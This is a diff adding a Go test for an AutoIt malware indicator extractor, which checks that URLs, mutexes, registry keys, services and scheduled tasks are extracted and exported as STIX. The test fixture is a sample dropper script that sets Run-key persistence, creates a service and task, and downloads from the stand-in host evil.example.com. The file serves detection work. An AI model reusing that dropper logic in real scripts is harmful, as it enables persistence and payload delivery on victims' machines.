@@ -0,0 +1,104 @@
+package tests
+
+import (
+	"bytes"
+	"encoding/json"
+	"github.com/x0r19x91/libautoit/ioc"
+	"github.com/x0r19x91/libautoit/parser"
+	"strings"
+	"testing"
+	"time"
+)
+
+const dropper = `_Singleton("Global\qw7Ks1")
+RegWrite("HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "upd", "REG_SZ", @AppDataDir & "\upd.exe")
+_Fetch()
+
+Func _Fetch()
+	Local $sUrl = Chr(104) & "ttp://evil.example.com/gate.php?id=1"
+	InetGet($sUrl, @TempDir & "\a.tmp")
+	TCPConnect("10.1.2.3", 443)
+	DllCall("kernel32.dll", "handle", "CreateMutexW", "ptr", 0, "bool", 1, "wstr", "mtx_" & "x1")
+	Run("sc create WinUpd binPath= C:\Windows\Temp\svc.exe start= auto")
+	Run("schtasks /create /tn Upd /tr ""C:\Users\Public\u.exe"" /sc minute")
+	MsgBox(0, "", "contact admin@mail.ru or see kernel32.dll")
+EndFunc
+`
+
+func TestIOC(t *testing.T) {
+	script, err := parser.ParseSource([]byte(dropper))
+	if err != nil {
+		t.Fatal(err)
+	}
+	inds := ioc.Extract(script)
+	got := make(map[string]*ioc.Indicator)
+	for _, ind := range inds {
+		got[string(ind.Type)+" "+ind.Value] = ind
+	}
+	want := []struct {
+		key, fn, src string
+		line         int
+	}{
+		{"mutex Global\\qw7Ks1", "", ioc.Literal, 1},
+		{"registry HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "", ioc.Literal, 2},
+		{"path %APPDATA%\\upd.exe", "", ioc.Folded, 2},
+		{"url http://evil.example.com/gate.php?id=1", "_Fetch", ioc.Folded, 6},
+		{"domain evil.example.com", "_Fetch", ioc.Folded, 6},
+		{"path %TEMP%\\a.tmp", "_Fetch", ioc.Folded, 7},
+		{"ipv4 10.1.2.3", "_Fetch", ioc.Literal, 8},
+		{"mutex mtx_x1", "_Fetch", ioc.Folded, 9},
+		{"service WinUpd", "_Fetch", ioc.Literal, 10},
+		{"path C:\\Windows\\Temp\\svc.exe", "_Fetch", ioc.Literal, 10},
+		{"task schtasks /create /tn Upd /tr \"C:\\Users\\Public\\u.exe\" /sc minute", "_Fetch", ioc.Literal, 11},
+		{"path C:\\Users\\Public\\u.exe", "_Fetch", ioc.Literal, 11},
+		{"email admin@mail.ru", "_Fetch", ioc.Literal, 12},
+	}
+	for _, w := range want {
+		ind := got[w.key]
+		if ind == nil {
+			t.Errorf("missing %s", w.key)
+			continue
+		}
+		if ind.Func != w.fn || ind.Source != w.src || ind.Pos.Line != w.line {
+			t.Errorf("%s: got func %q source %s line %d", w.key, ind.Func, ind.Source, ind.Pos.Line)
+		}
+	}
+	for _, ind := range inds {
+		if strings.Contains(ind.Value, "kernel32") || ind.Value == "mail.ru" {
+			t.Errorf("unexpected %s %s", ind.Type, ind.Value)
+		}
+	}
+	if ind := got["mutex mtx_x1"]; ind != nil && ind.Context != "DllCall" {
+		t.Errorf("mutex context %q", ind.Context)
+	}
+
+	var buf bytes.Buffer
+	if err := ioc.WriteSTIX(&buf, inds, time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)); err != nil {
+		t.Fatal(err)
+	}
+	var bundle struct {
+		Type    string
+		Objects []struct {
+			ID      string
+			Pattern string
+		}
+	}
+	if err := json.Unmarshal(buf.Bytes(), &bundle); err != nil {
+		t.Fatal(err)
+	}
+	if bundle.Type != "bundle" || len(bundle.Objects) == 0 {
+		t.Fatalf("bad bundle %s", buf.String())
+	}
+	found := false
+	for _, o := range bundle.Objects {
+		if !strings.HasPrefix(o.ID, "indicator--") {
+			t.Errorf("bad id %s", o.ID)
+		}
+		if o.Pattern == "[mutex:name = 'Global\\\\qw7Ks1']" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("mutex pattern missing from %s", buf.String())
+	}
+}